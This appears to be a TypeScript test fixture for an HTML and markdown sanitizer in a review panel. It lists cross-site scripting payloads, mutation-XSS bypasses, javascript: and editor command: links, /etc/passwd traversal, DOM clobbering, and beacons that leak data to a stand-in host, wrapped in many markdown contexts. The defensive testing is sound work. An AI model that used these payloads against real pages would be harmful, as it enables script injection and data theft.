/**
 * Markup written for this panel after published bypasses of other defences: every kind of content that it must not let
 * through.
 */
export const ownVectors: readonly string[] = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)></svg>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<svg><input>text</svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<template><img src=x onerror=alert(1)></template>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "<iframe src='javascript:parent.alert(1)'></iframe>",
  "<object data='data:text/html,<script>alert(1)</script>'></object>",
  "<embed src='javascript:alert(1)'>",
  "<details open ontoggle=alert(1)>x</details>",
  "<input autofocus onfocus=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<video poster=https://attack.example/poster></video>",
  "<picture><source srcset=https://attack.example/set><img src=x></picture>",
  "<img srcset='https://attack.example/image 1x' src=x>",
  "<input type=image src=https://attack.example/input>",
  "<body background=https://attack.example/body>",
  "<style>*{background:url(https://attack.example/style)}</style>",
  "<p style='background:url(https://attack.example/inline)'>x</p>",
  "<link rel=stylesheet href=https://attack.example/sheet>",
  "<link rel=preconnect href=https://attack.example>",
  "<meta http-equiv=refresh content='0;url=https://attack.example/refresh'>",
  "<base href='https://attack.example/'>",
  "<form action=https://attack.example/form><button autofocus>Approve</button></form>",
  "<button formaction='javascript:alert(1)'>x</button>",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href='java&#x09;script:alert(1)'>x</a>",
  "<a href='vbscript:x'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<a href='command:workbench.action.terminal.new'>x</a>",
  "<a href='vscode://file/etc/passwd'>x</a>",
  "<a href='https://example.org' ping='https://attack.example/ping' target=_top>x</a>",
  "<a data-file-ref='../../etc/passwd:1'>x</a>",
  "<div id=app></div><a id=acquireVsCodeApi name=dialecticWorkerSource></a>",
  "<section data-section-id=s1 data-hash=x>x</section>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt&colon;alert(1))",
  "[x](//attack.example/link)",
  "![x](https://attack.example/?leak=secret)",
  "![x](//attack.example/image.png)",
  "![x](data:text/html,<script>alert(1)</script>)",
  "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
  "<javascript:alert(1)>",
  "<https://attack.example/autolink>",
];

/** Pictures whose content must not run, and must fetch nothing. */
export const hostileSvgs: readonly string[] = [
  "<script>alert(1)</script>",
  "<script href='https://attack.example/script.js'/>",
  "<rect width='9' height='9' onclick='alert(1)'/><set attributeName='x' begin='0s' onbegin='alert(1)'/>",
  "<foreignObject width='9' height='9'><body xmlns='http://www.w3.org/1999/xhtml' onload='alert(1)'><iframe src='https://attack.example/frame'/></body></foreignObject>",
  "<image href='https://attack.example/image.png' width='9' height='9'/>",
  "<use href='https://attack.example/use.svg#x'/>",
  "<style>@import url(https://attack.example/sheet); rect { fill: url(https://attack.example/fill) }</style><rect width='9' height='9'/>",
  "<a href='javascript:alert(1)'><rect width='9' height='9'/></a>",
  "<animate attributeName='href' values='javascript:alert(1)'/>",
].map(
  (content) =>
    `<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9' viewBox='0 0 9 9' onload='alert(1)'>${content}</svg>`,
);

/** The places in a review where hostile text can occur. */
export const contexts: Readonly<Record<string, (payload: string, label: string) => string>> = {
  document: (payload) => payload,
  paragraph: (payload) => `text ${line(payload)} text`,
  heading: (payload) => `### ${line(payload)}`,
  listItem: (payload) => `- a\n- ${payload.replaceAll("\n", "\n  ")}\n- [ ] ${line(payload)}`,
  quote: (payload) => `> ${payload.replaceAll("\n", "\n> ")}`,
  alert: (payload) => `> [!WARNING]\n> ${payload.replaceAll("\n", "\n> ")}`,
  linkText: (payload) => `[${line(payload)}](https://example.org)`,
  link: (payload) => `[x](${payload})`,
  linkInAngles: (payload) => `[x](<${line(payload)}>)`,
  linkTitle: (payload) => `[x](https://example.org "${payload}")`,
  image: (payload) => `![x](${payload})`,
  imageInAngles: (payload) => `![x](<${line(payload)}>)`,
  alternative: (payload) => `![${payload}](x.png)`,
  autolink: (payload) => `<${payload.replace(/\s/g, "")}>`,
  definition: (payload, label) => `[x][${label}]\n\n[${label}]: <${line(payload)}> 't'`,
  footnote: (payload, label) => `x[^${label}]\n\n[^${label}]: ${payload}`,
  footnoteLabel: (payload) => `x[^${bare(payload)}]\n\n[^${bare(payload)}]: x`,
  tableCell: (payload) => `| a | b |\n|---|---|\n| ${line(payload)} | y |`,
  fenceInfo: (payload) => `\`\`\`${unticked(payload)}\ncode\n\`\`\``,
  fence: (payload) => `\`\`\`html\n${unticked(payload)}\n\`\`\``,
  code: (payload) => `\`\` ${line(payload)} \`\``,
  reference: (payload) => `[\`${unticked(payload)}:12\`][]`,
  htmlBlock: (payload) => `<div>\n\n${payload}\n\n</div>`,
  inlineHtml: (payload) => `text <b>${line(payload)}</b> text`,
  details: (payload) => `<details><summary>x</summary>\n\n${payload}\n\n</details>`,
  svg: (payload) => `<svg>${payload}</svg>`,
  math: (payload) => `<math><mtext>${payload}</mtext></math>`,
  attribute: (payload) => `<img alt="${payload}" src=x>`,
};

function line(payload: string): string {
  return payload.replaceAll("\n", " ");
}

function bare(payload: string): string {
  return payload.replace(/[\s[\]]/g, "") || "a";
}

function unticked(payload: string): string {
  return payload.replace(/[\n`]/g, " ");
}
